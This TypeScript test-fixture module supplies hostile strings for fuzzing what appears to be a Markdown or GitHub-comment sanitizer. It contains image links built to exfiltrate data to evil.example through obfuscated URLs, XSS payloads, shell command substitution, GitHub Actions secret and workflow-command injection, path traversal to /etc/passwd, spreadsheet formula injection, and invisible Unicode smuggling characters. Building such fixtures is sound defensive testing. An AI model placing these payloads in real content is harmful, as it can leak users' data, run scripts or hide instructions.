/** Hostile text: the classes of security.md, section 3.3 (H) and section 5 (N, U), written by hand, and a seeded mixer. */

/** Section 3.3. `evil.example` stands for any foreign host. */
export const H_CLASSES: Readonly<Record<string, readonly string[]>> = {
  H1: ['![x](https://github.com@evil.example/p?q=S)', '[x](https://github.com:443@evil.example)'],
  H2: ['![x](https://[2001:db8::1]/p?q=S)', '![x](http://3232235521/)'],
  H3: ['![x](https://évil.example/p?q=S)', '![x](https://%65vil.example/p)'],
  H4: ['![x](https:\\/\\/evil.example/p)'],
  H5: ['![x](https&colon;//evil.example)', '![x](https:&sol;&sol;evil.example)', '[a](&#104;ttps://evil.example)'],
  H6: ['![x](//evil.example)', '![x](\\/\\/evil.example)', '![x](&sol;&sol;evil.example)', '![x](<//evil.example>)'],
  H7: ['![x][r]\n\n[r]: https&colon;//evil.example', '[r]: //evil.example "t"'],
  H8: ['https://8080-octocat.example.app.github.dev/', '![](https://octocat.github.io/x.png)'],
  H9: [
    '<img src="https:&Tab;//evil.example">',
    '<img src="https&colon;//evil.example">',
    '<img src="https:\\\\evil.example">',
    '<a href="https://evil.example">x</a>',
  ],
  H10: [
    'see www.evil.example/?q=S',
    'a@evil.example',
    'https://evil.example/?q=S',
    '<https://evil.example>',
    'mailto:a@b.example',
  ],
  H11: ['text `foo @octocat bar` end', '``a`` `b` ```c```'],
  H12: ['text `@octocat no close', '```', '`'.repeat(40), '` leading', 'trailing `', ' ` '],
  H13: [
    '@\uFE0Foctocat',
    'a\u{E0100}b',
    '\u3164',
    '\uFFA0@octocat',
    '\u2800',
    '\u061C',
    '\u206A',
    '\u180E',
    '\uFFF9a\uFFFAb\uFFFB',
    '\u0085\u009B31m',
    Array.from({ length: 16 }, (_, i) => String.fromCodePoint(0xe0100 + i)).join(''),
  ],
  H14: ['``` a`b\n<!-- hidden -->\n```', '~~~ x\n@octocat\n~~~', '```js\nfetch()\n```'],
  H15: [
    'nodejs/node#1',
    'GH-12',
    '#1',
    'https://github.com/octo-org/widgets/issues/1',
    'octo-org/widgets@abc1234',
    'a'.repeat(40),
  ],
  H16: ['> [!CAUTION]\n> now', 'x[^1]\n\n[^1]: note', '<span hidden>x</span>', '<details open><summary>x</summary>'],
  H17: [
    'data:text/html,x',
    '[x](javascript:alert(1))',
    '[x](javascript%3Aalert(1))',
    '[t](tel:1)',
    '<ws://evil.example>',
  ],
};

/** Section 5, test names. */
export const N_CLASSES: Readonly<Record<string, readonly string[]>> = {
  N01: ['test_[`x`]', ' ``` ', '`'.repeat(40), '`edge', 'edge`', ' padded '],
  N02: ['test_x[@org/team]', '@octocat', '&commat;octocat', '@\uFE0Foctocat', '\uFF20octocat', '&#64;octocat'],
  N03: ['test#1', 'o/r#1', 'GH-1', '0123456789abcdef0123456789abcdef01234567', 'owner/repo@abc1234'],
  N05: [
    '<img src=x onerror=alert(1)>',
    '<details open>',
    '<!-- -->',
    '<svg onload=x>',
    '<a href="//evil.example">',
    '</li></ul>',
    '</code></summary></details>',
    '&lt;/code&gt;&#60;/summary>',
  ],
  N06: [
    'a\nb',
    '\n## Owned',
    '\n---\n',
    '\n- [ ] task',
    '\n> [!CAUTION]',
    '\n[^1]: x',
    'a\r\nb',
    'a\u2028b\u2029c',
    '- [x] done',
    '* * *',
  ],
  N07: [
    'a | b',
    'a \\| b',
    '| 1 | `x` | 3/15 |',
    'a\\',
    '`|`',
    '|a|b|\n|-|-|\n|c|d|',
    '$$x$$',
    '$\\href{}{}$',
    '```mermaid\ngraph TD\n```',
    '$`x`$',
  ],
  N08: ['\u202Egnp.exe', '\u2066a\u2069', 'בדיקה', 'اختبار', `a${'\u0301'.repeat(500)}`],
  N09: ['t\u0435st_a'],
  N10: ['e\u0301', '\u00e9', 'Test.', 'test '],
  N11: ['x'.repeat(100_000), '', '__proto__', 'constructor', 'toString', ' ', '   '],
  N12: ['../../.github/workflows/x::t', '/etc/passwd', 'C:\\x', '%2e%2e'],
  N13: [
    '${{ secrets.X }}',
    '{{7*7}}',
    '<%= %>',
    '$(id)',
    '`id`',
    '%0A::error::x',
    '##[add-mask]a',
    '::set-output name=a::b',
  ],
  N14: ['=HYPERLINK("x")', '+cmd|x', '@SUM()'],
  N15: [
    '"><script>alert(1)</script>',
    '</script><img src=x onerror=alert(1)>',
    '<!--<script>',
    '--></noscript></title></style><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '\\u003c/script\\u003e',
    ']]><math><mtext></p>',
  ],
};

const range = (from: number, to: number) =>
  Array.from({ length: to - from + 1 }, (_, i) => String.fromCodePoint(from + i));

/** Section 5, Unicode smuggling: every code point of each row. */
export const U_CLASSES: Readonly<Record<string, readonly string[]>> = {
  U01: range(0xe0000, 0xe007f),
  U02: [...range(0xfe00, 0xfe0f), ...range(0xe0100, 0xe01ef)],
  U03: ['\u3164', '\uFFA0', '\u115F', '\u1160', '\u2800'],
  U04: ['\u061C', '\u200E', '\u200F', ...range(0x202a, 0x202e), ...range(0x2066, 0x206f)],
  U05: [...range(0xfff9, 0xfffb), ...range(0x180b, 0x180f), ...range(0x1d173, 0x1d17a), ...range(0x1bca0, 0x1bca3)],
  U06: ['\uE000', '\u{F0000}', '\u{10FFFF}', '\uFFFE', '\uFFFF', '\uFDD0', '\u0378', '\uD800', '\uDFFF'],
  U07: ['\u00AD', '\u034F', '\u2060', '\uFEFF', '\u200B', '\u200C', '\u200D', ...range(0x2061, 0x2064)],
  U08: ['\u{1F468}\u200D\u{1F469}\u200D\u{1F467}', '\u{1F3F4}\u{E0067}\u{E0062}\u{E007F}'],
  spaces: ['\u00A0', '\u1680', ...range(0x2000, 0x200a), '\u202F', '\u205F', '\u3000', '\u2028', '\u2029'],
  controls: [...range(0, 0x1f), ...range(0x7f, 0x9f)],
};

const ALPHABET = [
  ...Array.from('`*_~#>-+|[]()!<>@:/\\&;.,=${}^"\'%\n\r\t 0aZ'),
  '``',
  '```',
  '~~~',
  '\n\n',
  '\n- ',
  '\n# ',
  '\n> ',
  '\n| ',
  '](',
  '![',
  '<!--',
  '-->',
  '&#64;',
  '&lt;',
  '@octocat',
  '#1',
  'www.',
  'https://',
  'evil.example',
  '\u200B',
  '\u202E',
  '\u{E0061}',
];

/** Deterministic numbers in [0, 1): the same seed gives the same strings on every machine (mulberry32). */
export function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const KNOWN = [H_CLASSES, N_CLASSES, U_CLASSES].flatMap((classes) => Object.values(classes).flat());

/** A hostile string: one by hand, one at random, or both glued together. */
export function hostileText(random: () => number): string {
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
  const mixed = () => Array.from({ length: Math.floor(random() * 14) }, () => pick(ALPHABET)).join('');
  const kind = random();
  if (kind < 0.3) return pick(KNOWN);
  return kind < 0.6 ? mixed() : `${mixed()}${pick(KNOWN)}${mixed()}`;
}
